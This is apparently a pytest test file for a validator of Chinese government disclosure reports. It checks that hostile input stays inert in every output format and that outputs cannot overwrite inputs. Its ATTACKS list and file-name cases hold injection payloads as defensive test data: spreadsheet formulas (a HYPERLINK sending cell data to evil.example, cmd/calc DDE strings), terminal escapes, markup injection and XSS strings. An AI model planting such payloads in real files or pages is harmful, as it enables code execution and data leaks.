"""Untrusted files cannot harm the user, the machine or the verdict (issue 13).

Each section is one class of attack or accident, with generated cases (hypothesis where it
fits) built from the seed report at test time:

* injection: hostile text in every text position of a report (body, cell text, table
  row label, file name) × every output format: nothing is interpreted by the program that
  opens the output (spreadsheet formulas, terminal escapes, rich markup, HTML, XML, JSON
  constants), and the text is still shown;
* output paths: an ``--output`` that is an input by name, ``..``, symlink or hard link is
  refused and the input is unchanged; outputs are written by rename.
"""
from __future__ import annotations

import csv
import hashlib
import io
import json
import math
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree
from lxml import html as lhtml
from rich.console import Console

from validator.outputs import FORMATS, module
from validator.outputs import console as console_out
from validator.outputs.safe import FORMULA_START, csv_cell, markup, terminal
from validator.run import check_paths

from .cli import invoke
from .conftest import ROOT, SEED

SEED_TEXT = SEED.read_text(encoding="utf-8")
NEW_ROW = "一、本年新收政府信息公开申请数量\t\t4\t"
SETTINGS = settings(max_examples=25, deadline=None, derandomize=True, database=None,
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])

# What attackers put in a cell, a title or a file name (no tab or line break: those change
# the table's structure in a text report; file names get them in their own test).
ATTACKS = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "＝1+1", "\x1b[31m红色\x1b[0m", "\x1b]8;;http://evil.example\x07链接\x1b]8;;\x07",
    "\x1b]0;title\x07", "\x9b31m", "\x07\x08\x7f", "[bold red]粗体[/]", "[/]", "[link=http://evil.example]x[/link]",
    "[", "]", "\\[x]", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "]]><!--", "&amp;&#0;",
    "\u202egnp.exe", "NaN", "Infinity", "{\"a\": 1}", "\r=1+1",
]
_SAFE_CHARS = st.characters(blacklist_categories=("Cs",), blacklist_characters="\t\n\r")
PAYLOADS = st.one_of(st.sampled_from(ATTACKS), st.text(_SAFE_CHARS, min_size=1, max_size=24),
                     st.tuples(st.sampled_from(ATTACKS), st.text(_SAFE_CHARS, max_size=8)).map("".join))


def _report_with(payload: str) -> str:
    """The seed with ``payload`` as the issuing body (title), as the text of a 表三 cell
    (X001 quotes it) and as the label of an extra 表三 row (X-finding quotes it)."""
    text = SEED_TEXT.replace(NEW_ROW, NEW_ROW.replace("\t4\t", f"\t{payload}x\t"), 1)
    text = text.replace("(六) 其他处理\t", f"{payload}行\t1\t2\t3\t4\t5\t6\t7\n(六) 其他处理\t", 1)
    return f"{payload}人民政府2020年政府信息公开工作年度报告\n" + text


def _render_all(result) -> dict[str, str]:
    out = {}
    for name in FORMATS:
        if name == "console":
            buf = io.StringIO()
            console_out.render(result, Console(file=buf, width=200, color_system=None, force_terminal=False),
                               show_info=True)
            out[name] = buf.getvalue()
        else:
            out[name] = module(name).render(result)
    return out


_TERMINAL_BAD = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def _assert_safe(outputs: dict[str, str], n_files: int) -> None:
    # console: no control character at all (rich adds none without a colour system), one verdict line per file
    con = outputs["console"]
    assert not _TERMINAL_BAD.search(con), repr(_TERMINAL_BAD.search(con).group(0))
    verdicts = [ln for ln in con.splitlines() if ln[:2] in ("✔ ", "✘ ", "! ")]
    assert len(verdicts) == n_files, verdicts
    # csv: every cell is a number or text no spreadsheet runs
    rows = list(csv.reader(io.StringIO(outputs["csv"].lstrip("\ufeff"), newline="")))
    for row in rows[1:]:
        for cell in row:
            assert not cell or cell[0] not in FORMULA_START or re.fullmatch(r"-?[0-9.]+", cell), (cell, row[2])
    # json, sarif: strict JSON (no NaN/Infinity constants)
    for name in ("json", "sarif"):
        def constant(c):
            raise AssertionError(f"{name} contains {c}")
        json.loads(outputs[name], parse_constant=constant)
    # junit: well-formed XML
    etree.fromstring(outputs["junit"].encode("utf-8"))
    # html: only the page's own script, no event handler, no javascript: URL from the report
    page = lhtml.fromstring(outputs["html"])
    assert len(page.xpath("//script")) == 1
    assert not page.xpath("//@*[starts-with(name(), 'on')]")
    assert not page.xpath("//img | //iframe | //object | //embed | //a[starts-with(@href, 'javascript')]")


@pytest.fixture(scope="module")
def workdir(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("untrusted")


@SETTINGS
@given(payload=PAYLOADS)
def test_injection_in_every_text_position_is_inert_in_every_format(workdir, payload):
    path = workdir / "report.txt"
    path.write_text(_report_with(payload), encoding="utf-8")
    result = check_paths([path], keep_cells=True)
    assert result.files[0].status != "unreadable", result.files[0].reason
    outputs = _render_all(result)
    _assert_safe(outputs, 1)
    # and the text is still there for people to read: in JSON as the reader found it
    if "\r" not in payload:
        data = json.loads(outputs["json"])
        assert any(payload.strip() in x["message"] for x in data["files"][0]["findings"]), payload


@pytest.mark.parametrize("payload", ATTACKS)
def test_known_attack_strings(workdir, payload):
    """The same property for every attack string, each in one run (the hypothesis test samples them)."""
    test_injection_in_every_text_position_is_inert_in_every_format.hypothesis.inner_test(workdir, payload)


@pytest.mark.parametrize("name", [
    "=HYPERLINK(1).txt", "-cmd.txt", "[bold]x[", "x\n✔ forged.txt 通过", "a\x1b]0;pwned\x07b.txt", "\u202etxt.exe",
    "ok\rforged.txt",
])
def test_hostile_file_names_are_inert_in_every_format(workdir, name):
    path = workdir / name
    path.write_text(SEED_TEXT, encoding="utf-8")
    empty = workdir / (name + ".empty")
    empty.write_bytes(b"")
    result = check_paths([path, empty], keep_cells=True)
    _assert_safe(_render_all(result), 2)


@pytest.mark.skipif(sys.platform == "darwin", reason="macOS file systems refuse undecodable names")
def test_undecodable_file_name_is_shown_escaped(workdir):
    """A name that is not UTF-8 (a GBK name on a UTF-8 system): every format carries it as \\xNN."""
    raw = os.fsencode(workdir) + b"/\xc4\xea\xb6\xc8\xb1\xa8\xb8\xe6.txt"  # 年度报告 in GBK
    with open(raw, "wb") as f:
        f.write(SEED_TEXT.encode("utf-8"))
    result = check_paths([Path(os.fsdecode(raw))], keep_cells=True)
    outputs = _render_all(result)
    _assert_safe(outputs, 1)
    for name, text in outputs.items():
        text.encode("utf-8")  # every output can be written
        assert re.search(r"\\+xc4\\+xea|%C4%EA", text), name
    proc = subprocess.run([sys.executable, "-m", "validator", "check", os.fsdecode(raw)], cwd=ROOT,
                          capture_output=True, env={**os.environ, "PYTHONIOENCODING": "utf-8"})
    assert proc.returncode == 0, proc.stderr.decode("utf-8", "replace")
    assert b"\\xc4\\xea" in proc.stdout


def test_safe_helpers():
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("@x") == "'@x" and csv_cell("\tx") == "'\tx"
    assert csv_cell(-3.0) == -3.0 and csv_cell("-3") == "-3" and csv_cell("-3.5") == "-3.5" and csv_cell(None) == ""
    assert terminal("a\x1b[31mb\nc") == "a\\x1b[31mb\\nc"
    assert markup("[bold]x[/]") == "\\[bold]x\\[/]"
    Console(file=io.StringIO()).print(markup("[/][link=x]"))  # no MarkupError


# ------------------------------------------------------------------ output paths


def _digest(p: Path) -> str:
    return hashlib.sha256(p.read_bytes()).hexdigest()


def _cli(*args, cwd=ROOT):
    return invoke(*args, cwd=cwd)  # in-process (tests/cli.py)


def _aliases(tmp: Path, target: Path) -> dict[str, Path]:
    """Other names for ``target``: itself, through ``..``, a symlink, a hard link."""
    (target.parent / "sub").mkdir(exist_ok=True)
    sym, hard = tmp / "sym.out", tmp / "hard.out"
    for p in (sym, hard):
        if p.exists() or p.is_symlink():
            p.unlink()
    sym.symlink_to(target)
    os.link(target, hard)
    return {"same": target, "dotdot": target.parent / "sub" / ".." / target.name, "symlink": sym, "hardlink": hard}


@pytest.mark.parametrize("fmt", ["console", "json", "csv"])
@pytest.mark.parametrize("role", ["input", "previous", "rules", "reviews"])
def test_output_cannot_overwrite_anything_the_run_reads(tmp_path, fmt, role):
    report = tmp_path / "report.txt"
    report.write_text(SEED_TEXT, encoding="utf-8")
    previous = tmp_path / "prev.txt"
    previous.write_text(SEED_TEXT, encoding="utf-8")
    rules = tmp_path / "rules"
    rules.mkdir()
    rule_file = rules / "extra.yaml"
    rule_file.write_text(  # one real rule: a rule directory without rules is itself a configuration error
        "rules:\n  - id: Z901\n    name: extra\n    title: 额外规则\n    severity: warning\n    table: t4\n"
        "    for_each: row\n    assert: total == upheld + corrected + other + pending\n    message: x\n", encoding="utf-8")
    reviews = tmp_path / "reviews.yaml"
    reviews.write_text("reviews: []\n", encoding="utf-8")
    victim = {"input": report, "previous": previous, "rules": rule_file, "reviews": reviews}[role]
    before = {p: _digest(p) for p in (report, previous, rule_file, reviews)}
    for how, out in _aliases(tmp_path, victim).items():
        proc = _cli("check", report, "--previous", previous, "--rules", rules, "--reviews", reviews,
                    "--format", fmt, "-o", out)
        assert proc.returncode == 4, (how, proc.returncode, proc.stderr)  # a usage error (issue 11)
        assert "拒绝覆盖" in proc.stderr, (how, proc.stderr)
        assert {p: _digest(p) for p in before} == before, how


def test_extract_output_cannot_overwrite_its_input(tmp_path):
    report = tmp_path / "report.txt"
    report.write_text(SEED_TEXT, encoding="utf-8")
    before = _digest(report)
    for how, out in _aliases(tmp_path, report).items():
        proc = _cli("extract", report, "-o", out)
        assert proc.returncode == 4 and "拒绝覆盖" in proc.stderr, (how, proc.stderr)  # a usage error (issue 11)
        assert _digest(report) == before


def test_output_is_written_by_rename(tmp_path):
    """A link to the old output keeps the old content (the new file replaced the name), and no temporary file is left."""
    report = tmp_path / "report.txt"
    report.write_text(SEED_TEXT, encoding="utf-8")
    out = tmp_path / "out.json"
    out.write_text("old", encoding="utf-8")
    os.link(out, tmp_path / "old-link.json")
    proc = _cli("check", report, "--format", "json", "-o", out)
    assert proc.returncode == 0, proc.stderr
    assert json.loads(out.read_text(encoding="utf-8"))["files"][0]["status"] == "passed"
    assert (tmp_path / "old-link.json").read_text(encoding="utf-8") == "old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["old-link.json", "out.json", "report.txt"]


# ---------------------------------------------------------------- numbers in every input form

HUGE = ["1e309", "inf", "-inf", "NaN", "Infinity", "9" * 400, "9" * 5000, "10000000000", "1,000,000,000,000",
        "1000000001"]
AMBIGUOUS = ["8 8", "4 4", "2¹", "4²", "2①", "4⑴", "٤", "४", "4\u00a04", "4*", "4※", "4[1]", "4注1"]
CELL = ("t3", "new", "natural_person")


def _seed_with_cell(value: str) -> str:
    return SEED_TEXT.replace(NEW_ROW, NEW_ROW.replace("\t4\t", f"\t{value}\t"), 1)


def _html_with_cell(value: str) -> bytes:
    from html import escape

    page = (ROOT / "tests" / "fixtures" / "taiqian_2020.html").read_bytes().decode("gb18030")
    at = page.index("一、本年新收政府信息公开申请数量")
    cell = page.index(">4</span>", at)
    return (page[:cell] + f">{escape(value)}</span>" + page[cell + len(">4</span>"):]).encode("gb18030")


def _xlsx_with_cell(value) -> bytes:
    from openpyxl import load_workbook

    wb = load_workbook(ROOT / "tests" / "fixtures" / "taiqian_2020.xlsx")
    ws = wb.worksheets[0]
    for row in ws.iter_rows():
        labels = [c for c in row if isinstance(c.value, str) and c.value.startswith("一、本年新收")]
        if labels:
            cell = next(c for c in row if c.column > labels[0].column and c.value == 4)
            cell.value = value
            break
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _canonical_with_cell(tmp: Path, value: str, fmt: str) -> Path:
    import pandas as pd

    from validator import canonical
    from validator.run import load_reports

    src = tmp / "seed.txt"
    src.write_text(SEED_TEXT, encoding="utf-8")
    df = pd.DataFrame(canonical.records(load_reports(src)), columns=canonical.COLUMNS)
    at = (df.table == CELL[0]) & (df.row_code == CELL[1]) & (df.column_code == CELL[2])
    df["value"] = df["value"].astype(object)
    df.loc[at, "value"], df.loc[at, "raw"] = value, value
    out = tmp / f"cells.{fmt}"
    if fmt == "csv":
        df.to_csv(out, index=False, encoding="utf-8-sig")
    elif fmt == "json":
        text = df.to_json(orient="records", force_ascii=False).replace(json.dumps(value), value)
        out.write_text(text, encoding="utf-8")  # the number as written, unquoted (1e309, NaN, Infinity)
    else:
        try:
            df["value"] = df["value"].astype(float)
        except (ValueError, OverflowError):  # a text column, as a hand-made file may have
            df["value"] = df["value"].map(lambda v: None if v is None or v != v else str(v))
        df.to_parquet(out, index=False)
    return out


def _forms(tmp: Path, value: str) -> dict[str, Path]:
    """The seed with ``value`` in 表三 一、本年新收 × 自然人, in every input form."""
    paths = {}
    (tmp / "r.txt").write_text(_seed_with_cell(value), encoding="utf-8")
    paths["text"] = tmp / "r.txt"
    (tmp / "r.html").write_bytes(_html_with_cell(value))
    paths["html"] = tmp / "r.html"
    (tmp / "r.xlsx").write_bytes(_xlsx_with_cell(value))
    paths["xlsx-text"] = tmp / "r.xlsx"
    try:
        number = float(value.replace(",", ""))
    except ValueError:
        number = None
    if number is not None and math.isfinite(number):  # XLSX cannot store inf or NaN (openpyxl writes nothing)
        (tmp / "n.xlsx").write_bytes(_xlsx_with_cell(number))
        paths["xlsx-number"] = tmp / "n.xlsx"
    narrative = SEED_TEXT.replace("共受理政府信息公开申请4件", f"共受理政府信息公开申请{value}件")
    (tmp / "n.txt").write_text(narrative, encoding="utf-8")
    paths["narrative"] = tmp / "n.txt"
    for fmt in ("csv", "json", "parquet"):
        d = tmp / fmt
        d.mkdir(exist_ok=True)
        paths[f"canonical-{fmt}"] = _canonical_with_cell(d, value, fmt)
    return paths


def _cell_outcome(f) -> str:
    """What the run says about the cell: unreadable file, a finding on the cell, or nothing."""
    if f.status == "unreadable":
        return "unreadable"
    rules = {x["rule"] for x in f.findings if (x.get("table_code"), x.get("row_code"), x.get("column_code")) == CELL}
    if not rules and any(x["rule"] == "X006" and x.get("table_code") == CELL[0] for x in f.findings):
        return "X006"  # the reader did not see 表三 as a table at all (an error, never a pass)
    return ",".join(sorted(rules)) or "nothing"


@pytest.mark.parametrize("value", HUGE)
def test_huge_and_non_finite_numbers_in_every_input_form(tmp_path, value):
    """Never a crash, never a number read past the bound: the cell is X001/X010 or the file is unreadable with a reason."""
    forms = _forms(tmp_path, value)
    good = tmp_path / "good.txt"
    good.write_text(SEED_TEXT, encoding="utf-8")
    result = check_paths([good, *forms.values()])  # one batch: every file gets its result
    assert result.exit_code in (0, 1, 2)
    assert result.files[0].status == "passed"
    for (form, path), f in zip(forms.items(), result.files[1:]):
        if form == "narrative":
            assert f.status == "passed", (form, [x["rule"] for x in f.findings])  # the claim is not a number read
            continue
        outcome = _cell_outcome(f)
        assert outcome in ("X001", "X010", "X006", "unreadable"), (form, value[:20], outcome)
        assert outcome != "X006" or form == "html", (form, value[:20])
        if outcome == "unreadable":
            assert f.reason, form
        for x in f.findings:
            for k in ("reported", "expected"):
                v = x.get(k)
                assert not isinstance(v, float) or abs(v) <= 1e9, (form, x["rule"], k, v)
    json.loads(module("json").render(result), parse_constant=lambda c: pytest.fail(c))


@pytest.mark.parametrize("value", AMBIGUOUS)
def test_numbers_that_would_need_a_guess_are_unreadable_cells(tmp_path, value):
    forms = {k: v for k, v in _forms(tmp_path, value).items() if k in ("text", "html", "xlsx-text")}
    result = check_paths(list(forms.values()))
    for form, f in zip(forms, result.files):
        assert _cell_outcome(f) == "X001", (form, value, _cell_outcome(f))
        x = next(x for x in f.findings if x["rule"] == "X001")
        assert x["reported"].split() == value.split()  # the raw text is shown


def test_narrative_number_with_thousands_of_digits_does_not_crash_the_batch(tmp_path):
    p = tmp_path / "n.txt"
    p.write_text(SEED_TEXT.replace("共受理政府信息公开申请4件", "共受理政府信息公开申请" + "9" * 5000 + "件"),
                 encoding="utf-8")
    proc = _cli("check", p, SEED)
    assert proc.returncode == 0, proc.stderr


# ---------------------------------------------------------------- canonical files

def _canonical_frame(tmp: Path):
    import pandas as pd

    from validator import canonical
    from validator.run import load_reports

    src = tmp / "seed.txt"
    src.write_text(SEED_TEXT, encoding="utf-8")
    return pd.DataFrame(canonical.records(load_reports(src)), columns=canonical.COLUMNS)


def test_a_cell_given_twice_is_a_finding_naming_both_rows(tmp_path):
    import pandas as pd

    df = _canonical_frame(tmp_path)
    at = (df.table == "t3") & (df.row_code == "results.total") & (df.column_code == "total")
    dup = df[at].copy()
    dup["value"], dup["raw"] = 5.0, "5"
    for order in ("first", "last"):
        both = pd.concat([df, dup] if order == "first" else [dup, df], ignore_index=True)
        p = tmp_path / f"dup_{order}.csv"
        both.to_csv(p, index=False, encoding="utf-8-sig")
        f = check_paths([p]).files[0]
        x = [x for x in f.findings if x["rule"] == "X011"]
        assert [(x["table_code"], x["row_code"], x["column_code"]) for x in x] == [("t3", "results.total", "total")]
        rows = sorted(int(n) for n in re.findall(r"第 (\d+) 行", x[0]["message"]))
        first, second = (int(df.index[at][0]) + 2, len(df) + 2) if order == "first" else (2, int(df.index[at][0]) + 3)
        assert rows == [first, second], x[0]["message"]
        assert f.status == "failed"


@pytest.mark.parametrize("column,value", [("year", "99999999999999999999"), ("year", "20.5"), ("line", "1e400"),
                                          ("page", "-1"), ("grid_row", "inf"), ("value", "nan"),
                                          ("value", "1e309"), ("value", "-1e10")])
def test_canonical_values_are_validated_completely(tmp_path, column, value):
    df = _canonical_frame(tmp_path).astype(object)
    at = df.index[(df.table == "t3") & (df.state == "number")][3]
    df.loc[at, column] = value
    p = tmp_path / "bad.csv"
    df.to_csv(p, index=False, encoding="utf-8-sig")
    f = check_paths([p]).files[0]
    assert f.status == "unreadable", [x["rule"] for x in f.findings]
    assert f"第 {at + 2} 行" in f.reason and column in f.reason, f.reason


def test_parquet_metadata_is_checked_before_the_data(tmp_path, monkeypatch):
    import pyarrow.parquet as pq

    from validator import canonical

    df = _canonical_frame(tmp_path)
    p = tmp_path / "cells.parquet"
    df.to_parquet(p, index=False)
    read = []
    monkeypatch.setattr(pq.ParquetFile, "read", lambda *a, **k: read.append(1))
    monkeypatch.setattr(canonical, "MAX_ROWS", len(df) - 1)
    f = check_paths([p]).files[0]
    assert f.status == "unreadable" and "行的上限" in f.reason and not read
    monkeypatch.setattr(canonical, "MAX_ROWS", 10 ** 6)
    monkeypatch.setattr(canonical, "MAX_PARQUET_BYTES", 1000)
    f = check_paths([p]).files[0]
    assert f.status == "unreadable" and "解压后超过" in f.reason and not read


def test_canonical_csv_row_limit_and_size_limit(tmp_path, monkeypatch):
    import validator.readers as readers
    from validator import canonical

    df = _canonical_frame(tmp_path)
    p = tmp_path / "cells.csv"
    df.to_csv(p, index=False, encoding="utf-8-sig")
    monkeypatch.setattr(canonical, "MAX_ROWS", 100)
    assert "行的上限" in check_paths([p]).files[0].reason
    monkeypatch.setattr(canonical, "MAX_ROWS", 10 ** 6)
    monkeypatch.setattr(readers, "MAX_BYTES", 1000)
    assert "文件过大" in check_paths([p]).files[0].reason


def test_canonical_csv_is_neutralised_for_spreadsheets_and_reads_back_the_same(tmp_path):
    path = tmp_path / "=HYPERLINK(1).txt"
    path.write_text(_report_with("=1+1"), encoding="utf-8")
    out = tmp_path / "cells.csv"
    proc = _cli("extract", path, "-o", out)
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline="")))
    for row in rows[1:]:
        for cell in row:
            assert not cell or cell[0] not in FORMULA_START or re.fullmatch(r"-?[0-9.]+", cell), cell
    a, b = check_paths([path]), check_paths([out])
    key = lambda r: sorted(str((x["rule"], x["row_code"], x["column_code"], x["message"])) for x in r.files[0].findings)
    assert key(a) == key(b)


# ---------------------------------------------------------------- blank forms

_TABLE_NUMBER = re.compile(r"(?<![^\t\n])[0-9][0-9,.]*(?![^\t\n])")


def _blank_seed() -> str:
    """The seed with every number of every table removed (the form as published, not filled in)."""
    lines = SEED_TEXT.split("\n")
    return "\n".join(_TABLE_NUMBER.sub("", ln) if "\t" in ln or _TABLE_NUMBER.fullmatch(ln.strip() or "x") else ln
                     for ln in lines)


def _blank_xlsx() -> bytes:
    from openpyxl import load_workbook

    wb = load_workbook(ROOT / "tests" / "fixtures" / "taiqian_2020.xlsx")
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, (int, float)) and not isinstance(c.value, bool):
                    c.value = None
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


@pytest.mark.parametrize("form", ["text", "dashes", "xlsx", "canonical"])
def test_a_blank_form_does_not_pass(tmp_path, form):
    if form == "text":
        p = tmp_path / "blank.txt"
        p.write_text(_blank_seed(), encoding="utf-8")
    elif form == "dashes":
        p = tmp_path / "dashes.txt"
        p.write_text(_TABLE_NUMBER.sub("/", SEED_TEXT.split("三、收到和处理")[0]) + "三、收到和处理"
                     + _TABLE_NUMBER.sub("/", SEED_TEXT.split("三、收到和处理")[1]), encoding="utf-8")
    elif form == "xlsx":
        p = tmp_path / "blank.xlsx"
        p.write_bytes(_blank_xlsx())
    else:
        df = _canonical_frame(tmp_path)
        cells = df.table.isin(["t2", "t3", "t4"])
        df.loc[cells, "state"], df.loc[cells, "value"], df.loc[cells, "raw"] = "blank", None, ""
        p = tmp_path / "blank.csv"
        df.to_csv(p, index=False, encoding="utf-8-sig")
    f = check_paths([p]).files[0]
    assert f.status == "failed", (form, f.status, f.reason, [x["rule"] for x in f.findings])
    assert "X013" in [x["rule"] for x in f.findings if x["severity"] == "error"], form


# ---------------------------------------------------------------- two reports of one body and year

def _titled(name: str, year: int, text: str = SEED_TEXT) -> str:
    return f"{name}{year}年政府信息公开工作年度报告\n" + text


def test_same_body_and_year_twice_is_a_finding_naming_both_files_in_any_order(tmp_path):
    a, b, nxt = tmp_path / "a_2020.txt", tmp_path / "b_2020_draft.txt", tmp_path / "c_2021.txt"
    a.write_text(_titled("台前县人民政府", 2020), encoding="utf-8")
    # the draft differs from the final report in 上年结转 … which would change Y001 for 2021
    b.write_text(_titled("台前县人民政府", 2020, _seed_with_cell("5")), encoding="utf-8")
    nxt.write_text(_titled("台前县人民政府", 2021), encoding="utf-8")
    seen = set()
    for order in ([a, b, nxt], [nxt, b, a], [b, nxt, a]):
        result = check_paths(order)
        by = {Path(f.path).name: f for f in result.files}
        for mine, other in ((a, b), (b, a)):
            dup = [x for x in by[mine.name].findings if x["rule"] == "Y009"]
            assert len(dup) == 1 and str(other) in dup[0]["message"], order
        # what 2021 is told does not depend on the order of the arguments
        verdict = tuple(sorted((x["rule"], x.get("row_code"), x.get("column_code"), x["message"])
                               for x in by[nxt.name].findings))
        seen.add(verdict)
    assert len(seen) == 1


def test_the_same_file_twice_is_not_two_reports(tmp_path):
    a = tmp_path / "a_2020.txt"
    a.write_text(_titled("台前县人民政府", 2020), encoding="utf-8")
    result = check_paths([a, a])
    assert not [x for f in result.files for x in f.findings if x["rule"] == "Y009"]


# ---------------------------------------------------------------- findings cap, crash isolation

def test_findings_are_capped_per_file_with_one_finding_saying_how_many_more(tmp_path):
    from validator import run

    rows = "".join(f"未知行{i}\t1\t2\t3\t4\t5\t6\t7\n" for i in range(run.MAX_FINDINGS + 500))
    p = tmp_path / "many.txt"
    p.write_text(SEED_TEXT.replace("(六) 其他处理\t", rows + "(六) 其他处理\t", 1), encoding="utf-8")
    good = tmp_path / "good.txt"
    good.write_text(SEED_TEXT, encoding="utf-8")
    result = check_paths([p, good], keep_cells=True)
    f = result.files[0]
    assert len(f.findings) == run.MAX_FINDINGS + 1
    cap = f.findings[-1]
    assert cap["rule"] == "X014" and cap["evidence"]["more"] >= 500
    assert result.files[1].status == "passed"
    page = module("html").render(result)
    assert page.count('class="sev-') <= 2 * (run.MAX_FINDINGS + 1) + 20  # the HTML is bounded too


def test_a_failing_check_costs_one_report_not_the_batch(tmp_path, monkeypatch):
    """Exit 3 is unreachable by input: an exception while checking one report makes that
    report unreadable (with the reason), the others are checked."""
    from validator import engine

    bad, good = tmp_path / "bad.txt", tmp_path / "good.txt"
    bad.write_text(_titled("某县人民政府", 2020), encoding="utf-8")
    good.write_text(_titled("台前县人民政府", 2020), encoding="utf-8")
    real = engine.CHECKS["extraction"]

    def explode(batch, rule):
        if any(r.body == "某县人民政府" for r in batch.reports):
            raise OverflowError("boom")
        return real.run(batch, rule)

    monkeypatch.setitem(engine.CHECKS, "extraction", engine.Kind("extraction", explode, real.stage, real.cross_year))
    result = check_paths([bad, good])
    assert [f.status for f in result.files] == ["unreadable", "passed"]
    assert "核对该报告时出错" in result.files[0].reason and result.exit_code == 2


# ---------------------------------------------------------------- XLSX bombs

def _styled_cells_xlsx(n: int) -> bytes:
    """A valid XLSX whose sheet stores ``n`` empty styled cells (and one merged range, so
    openpyxl would load it in its non-lazy mode)."""
    cols = 100
    rows = "".join(f'<row r="{r}">' + "".join(f'<c r="{_col(c)}{r}" s="1"/>' for c in range(1, cols + 1)) + "</row>"
                   for r in range(1, n // cols + 1))
    sheet = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
             '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
             f"<sheetData>{rows}</sheetData><mergeCells count=\"1\"><mergeCell ref=\"A1:B1\"/></mergeCells>"
             "</worksheet>")
    from openpyxl import Workbook

    wb = Workbook()
    wb.active["A1"] = "x"
    buf = io.BytesIO()
    wb.save(buf)
    out = io.BytesIO()
    import zipfile

    with zipfile.ZipFile(buf) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = sheet.encode() if info.filename == "xl/worksheets/sheet1.xml" else src.read(info)
            dst.writestr(info.filename, data)
    return out.getvalue()


def _col(n: int) -> str:
    s = ""
    while n:
        n, r = divmod(n - 1, 26)
        s = chr(65 + r) + s
    return s


def test_xlsx_cell_limit_counts_empty_styled_cells_before_openpyxl(tmp_path, monkeypatch):
    import openpyxl

    from validator.readers import sheet

    monkeypatch.setattr(sheet, "MAX_CELLS", 20_000)
    loaded = []
    real = openpyxl.load_workbook
    monkeypatch.setattr(openpyxl, "load_workbook", lambda *a, **k: loaded.append(1) or real(*a, **k))
    p = tmp_path / "styled.xlsx"
    p.write_bytes(_styled_cells_xlsx(30_000))
    f = check_paths([p]).files[0]
    assert f.status == "unreadable" and "单元格超过" in f.reason, (f.status, f.reason)
    assert not loaded


# ---------------------------------------------------------------- everything in one batch

def test_a_batch_of_every_class_gives_every_file_a_result(tmp_path):
    """Hostile and broken files of every class above beside good reports, through the CLI
    with worker processes: every file gets its verdict line, no traceback, exit 0/1/2
    only, and no input is modified."""
    import shutil

    d = tmp_path / "batch"
    d.mkdir()
    files = {}

    def put(name: str, data: bytes | str) -> None:
        p = d / name
        p.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        files[name] = p

    put("good.txt", SEED_TEXT)
    put("[bold]=cmd|x.txt", _report_with("\x1b]8;;http://evil\x07[/]=1+1"))
    for i, value in enumerate(["9" * 5000, "1e309", "NaN", "8 8", "2①"]):
        put(f"value_{i}.txt", _seed_with_cell(value))
        put(f"value_{i}.html", _html_with_cell(value))
    put("narrative.txt", SEED_TEXT.replace("共受理政府信息公开申请4件", "共受理政府信息公开申请" + "9" * 5000 + "件"))
    put("blank.txt", _blank_seed())
    put("styled.xlsx", _styled_cells_xlsx(2000))
    put("a_2020.txt", _titled("台前县人民政府", 2020))
    put("b_2020.txt", _titled("台前县人民政府", 2020, _seed_with_cell("5")))
    put("bracket.md", "[台前县]" + _titled("台前县人民政府", 2021))
    df = _canonical_frame(tmp_path)
    bad = df.astype(object)
    bad.loc[bad.index[5], "value"] = "1e400"
    bad.to_csv(d / "bad_cells.csv", index=False, encoding="utf-8-sig")
    files["bad_cells.csv"] = d / "bad_cells.csv"
    df.to_parquet(d / "cells.parquet", index=False)
    files["cells.parquet"] = d / "cells.parquet"
    for case in sorted((ROOT / "tests" / "fuzz" / "cases").iterdir())[:12]:
        shutil.copy(case, d / case.name)
        files[case.name] = d / case.name
    before = {n: _digest(p) for n, p in files.items()}
    proc = _cli("check", d, "-j", "2", "-q")
    assert proc.returncode in (0, 1, 2), proc.stderr[-2000:]
    assert "Traceback" not in proc.stderr and "内部错误" not in proc.stderr, proc.stderr[-2000:]
    lines = [ln for ln in proc.stdout.splitlines() if ln[:2] in ("✔ ", "✘ ", "! ", "- ")]
    lines += [ln for ln in proc.stderr.splitlines() if "无法读取" in ln]  # unreadable files: one line on stderr
    from validator.discover import REPORT_EXTENSIONS

    for name in files:  # every report file found has its verdict or its reason (issue 11: report extensions)
        if Path(name).suffix.lower() in REPORT_EXTENSIONS:
            assert [ln for ln in lines if terminal(name) in ln], name
    assert {n: _digest(p) for n, p in files.items()} == before
    assert not _TERMINAL_BAD.search(proc.stdout + proc.stderr)


def test_one_report_in_two_forms_is_not_two_reports(tmp_path):
    """The same cells from a page and its text copy: one report, no Y009."""
    a = tmp_path / "a_2020.txt"
    a.write_text(_titled("台前县人民政府", 2020), encoding="utf-8")
    b = tmp_path / "a_2020.html"
    b.write_bytes(_html_with_cell("4"))
    result = check_paths([a, b])
    assert not [x for f in result.files for x in f.findings if x["rule"] == "Y009"]


def test_a_failing_cross_year_check_fails_closed_with_a_result_for_every_file(tmp_path, monkeypatch):
    from validator import engine

    a, b = tmp_path / "a.txt", tmp_path / "b.txt"
    a.write_text(_titled("台前县人民政府", 2020), encoding="utf-8")
    b.write_text(_titled("台前县人民政府", 2021), encoding="utf-8")
    real = engine.CHECKS["year_gap"]

    def explode(batch, rule):
        raise ValueError("boom")

    monkeypatch.setitem(engine.CHECKS, "year_gap", engine.Kind("year_gap", explode, real.stage, real.cross_year))
    result = check_paths([a, b])
    assert [f.status for f in result.files] == ["unreadable", "unreadable"] and result.exit_code == 2
    assert all("跨年度核对时出错" in f.reason for f in result.files)


# ---------------------------------------------------------------- one budget for the whole pipeline

